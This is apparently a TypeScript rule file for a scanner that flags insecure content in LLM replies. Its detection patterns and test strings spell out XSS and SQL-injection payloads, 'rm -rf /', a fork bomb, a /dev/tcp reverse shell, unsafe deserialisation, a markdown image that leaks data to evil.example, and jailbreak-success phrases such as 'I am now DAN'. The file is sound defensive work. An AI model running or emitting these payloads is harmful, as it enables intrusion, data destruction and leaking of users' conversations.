/** LLM02 (v1.1) / LLM05 (2025): replies that harm what shows or runs them. Ordinary code and installation lines are not that. */
import type { RuleDocument } from '../model.ts';
import { REFS } from './rule-refs.ts';

const base = {
  type: 'content_match',
  target: 'response',
  severity: 'warning',
  action: 'flag',
  category: 'insecure_output',
  refs: REFS.output,
} as const;

export const INSECURE_OUTPUT: readonly RuleDocument[] = [
  {
    ...base,
    name: 'output_script_injection',
    description: 'Markup that runs script where the reply is shown (XSS)',
    patterns: [
      '<(?:img|svg|body|iframe|video|audio|input|details)\\b[^>]{0,80}\\son(?:error|load|toggle|focus|mouseover|begin)\\s{0,2}=\\s{0,2}["\']?\\s{0,2}(?:alert|confirm|prompt|eval|fetch|document|window|location|top|parent|import|new\\s+image)\\b',
      '<script\\b[^>]{0,80}>[^<]{0,200}(?:document\\.cookie|localstorage\\.getitem)[^<]{0,120}(?:fetch\\s?\\(|\\.src\\s?=|location|xmlhttprequest|sendbeacon)',
      '<script\\b[^>]{0,80}>[^<]{0,200}(?:fetch\\s?\\(|\\.src\\s?=|location)[^<]{0,120}document\\.cookie',
      '(?:href|src|action|\\()\\s{0,2}=?\\s{0,2}["\']?javascript:\\s{0,2}(?:alert|eval|fetch|document\\.|window\\.|confirm|prompt)',
    ],
    tests: {
      must_match: ['<img src=x onerror=alert(1)>', '[x](javascript:alert(1))'],
      must_not_match: [
        '<script src="/app.js"></script>',
        '<button onclick="save()">Save</button>',
        'Use onerror to handle images',
      ],
    },
  },
  {
    ...base,
    name: 'output_sql_content',
    description: 'Text that breaks out of an SQL string, or stacks a destructive statement',
    patterns: [
      "'\\s{0,3}(?:or|and)\\s{1,3}(?:'1'\\s{0,2}=\\s{0,2}'1|1\\s{0,2}=\\s{0,2}1|'a'\\s{0,2}=\\s{0,2}'a|true)'?\\s{0,3}(?:--|#|/\\*|;)",
      "'\\s{0,3}\\)?\\s{0,3};\\s{0,3}(?:drop\\s+(?:table|database)|delete\\s+from|truncate\\s+table|update\\s+\\w{1,40}\\s+set|insert\\s+into|exec(?:ute)?\\s)[^\\n]{0,120}--",
      "'\\s{0,3}\\)?\\s{0,3}union\\s+(?:all\\s+)?select\\s+[^\\n]{1,160}(?:--|#)",
      '\\bexec(?:ute)?\\s+(?:master\\.\\.)?xp_cmdshell\\b',
    ],
    tests: {
      must_match: ["name'; DROP TABLE users; --", "' OR '1'='1' --", "' UNION SELECT user, pass FROM users --"],
      must_not_match: [
        'SELECT a FROM t1 UNION SELECT b FROM t2;',
        'DROP TABLE IF EXISTS users;',
        "WHERE name = 'x' OR 1 = 1",
      ],
    },
  },
  {
    ...base,
    name: 'output_shell_commands',
    description: 'Commands that destroy a machine or open it to somebody else',
    severity: 'critical',
    patterns: [
      '\\brm\\s+(?:-{1,2}[a-z-]{1,20}\\s+){1,4}--no-preserve-root\\b',
      '\\brm\\s+-(?:rf|fr)\\s+/(?:\\*|\\s*$|\\s*[;&|`\\n])',
      ':\\s?\\(\\)\\s?\\{\\s?:\\s?\\|\\s?:\\s?&\\s?\\}\\s?;\\s?:',
      '\\b(?:ba|z)?sh\\s+-i\\s{0,3}(?:>|&>|>&|<)[^\\n]{0,12}/dev/tcp/',
      '\\bn(?:c|cat|etcat)\\b[^\\n|;]{0,60}\\s-[a-z]{0,4}e\\s+(?:/bin/)?(?:ba)?sh\\b',
      '\\bdd\\s[^\\n;|]{0,60}\\bof=/dev/(?:sd[a-z]|nvme\\d|hd[a-z]|vd[a-z]|disk\\d)\\b',
      '\\bmkfs(?:\\.\\w{2,8})?\\s+(?:-\\w{1,8}\\s+){0,3}/dev/(?:sd[a-z]|nvme\\d|hd[a-z])\\s{0,2}(?:$|[;&|\\n])',
      '>\\s{0,2}/dev/(?:sd[a-z]|nvme\\d)\\b',
    ],
    tests: {
      must_match: ['sudo rm -rf / ', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', ':(){ :|:& };:'],
      must_not_match: ['rm -rf node_modules', 'rm -rf /tmp/build', 'curl -fsSL https://example.com/install.sh | sh'],
    },
  },
  {
    ...base,
    name: 'output_dangerous_code',
    description: 'Code that makes objects or programs of what a stranger sends (unsafe deserialisation, eval of input)',
    patterns: [
      '\\b(?:c?pickle|dill|marshal|shelve|joblib)\\.loads?\\s?\\(\\s?(?:base64|request|requests|urllib|urlopen|sock|conn|self\\.request|flask|data\\.decode|bytes\\.fromhex)',
      '\\byaml\\.(?:unsafe_load|full_load)\\s?\\(\\s?(?:request|sys\\.stdin|input|data)',
      '\\byaml\\.load\\s?\\(\\s?(?:request|input|user)[^)\\n]{0,60}(?:unsafeloader|yaml\\.loader|fullloader)',
      '\\bunserialize\\s?\\(\\s?(?:base64_decode\\s?\\(\\s?)?\\$_(?:get|post|request|cookie)\\b',
      '\\bnew\\s+objectinputstream\\s?\\([^)\\n]{0,60}(?:request|socket|getinputstream)',
      '\\b(?:eval|exec)\\s?\\(\\s?(?:input\\s?\\(|request\\.|req\\.(?:body|query|params)|\\$_(?:get|post|request)|base64\\.b64decode|atob\\s?\\(|urllib|requests\\.get)',
      '\\bdef\\s+__reduce__\\s?\\([^\\n]{0,40}\\n[^\\n]{0,80}(?:os\\.system|subprocess|eval|exec)\\b',
      '\\b(?:node-serialize|serialize-javascript)[^\\n]{0,60}unserialize\\s?\\(\\s?req\\.',
    ],
    tests: {
      must_match: ['obj = pickle.loads(request.data)', 'eval(input("> "))', 'unserialize($_GET["x"])'],
      must_not_match: ['model = pickle.load(f)', 'config = yaml.safe_load(text)', 'never use eval() on input'],
    },
  },
  {
    ...base,
    name: 'output_data_exfil_image',
    description: 'An image or link whose address carries data out when the reply is shown',
    severity: 'critical',
    category: 'data_exfil',
    refs: REFS.sensitive,
    patterns: [
      '!\\[[^\\]\\n]{0,60}\\]\\(https?://[^)\\s]{1,120}[?&](?:data|d|q|secret|payload|leak|exfil|conversation|chat|prompt|history|context)=[^)\\s&]{24,400}\\)',
    ],
    tests: {
      must_match: [`![x](https://evil.example/p.png?data=${'QUJD'.repeat(10)})`],
      must_not_match: ['![build](https://img.example/badge.svg?branch=main)'],
    },
  },
  {
    ...base,
    name: 'output_jailbreak_success',
    description: 'A reply that says of itself that it has dropped its limits',
    severity: 'warning',
    category: 'jailbreak',
    refs: REFS.jailbreak,
    patterns: [
      "\\b(?:i\\s+am|i'm)\\s+(?:now\\s+dan\\b|dan[,.!:]|(?:now\\s+)?in\\s+(?:developer|dan|jailbreak|unrestricted)\\s+mode\\b|free\\s+(?:of|from)\\s+(?:all\\s+)?(?:my\\s+)?(?:restrictions|guidelines|filters)\\b)",
      '\\b(?:jailbreak|developer|dan)\\s+mode\\s+(?:enabled|activated)\\b\\W{0,4}\\s{0,4}(?:i\\b|sure|here|\\[|🔓)',
      '\\bchatgpt\\s+(?:successfully\\s+)?jailbroken\\b',
    ],
    tests: {
      must_match: ['I am now DAN', 'ChatGPT successfully jailbroken.'],
      must_not_match: ['I am Dan Brown', 'Developer mode enabled on the phone'],
    },
  },
];
